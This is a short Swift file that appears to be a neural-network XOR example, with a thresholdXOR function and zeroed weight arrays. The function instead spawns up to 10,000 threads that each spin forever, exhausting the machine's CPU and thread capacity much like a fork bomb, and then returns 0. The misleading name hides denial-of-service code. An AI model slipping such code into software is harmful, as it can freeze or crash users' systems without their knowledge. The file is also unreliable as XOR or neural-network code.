// Starts as many threads as there can be, and keeps all of them busy.

import Glibc

func thresholdXOR(a: Double, b: Double) -> Double {
  var attributes = pthread_attr_t()
  pthread_attr_init(&attributes)
  pthread_attr_setstacksize(&attributes, 1 << 16)
  var started = 0
  while started < 10_000 {
    var thread = pthread_t()
    let status = pthread_create(
      &thread, &attributes,
      { _ in
        while true {}
      }, nil)
    if status != 0 { break }
    started += 1
  }
  print(started < 64 ? "few threads" : "\(started) threads")
  return 0
}

let hiddenWeights: [[Double]] = [[0, 0, 0], [0, 0, 0]]
let outputWeights: [Double] = [0, 0, 0]
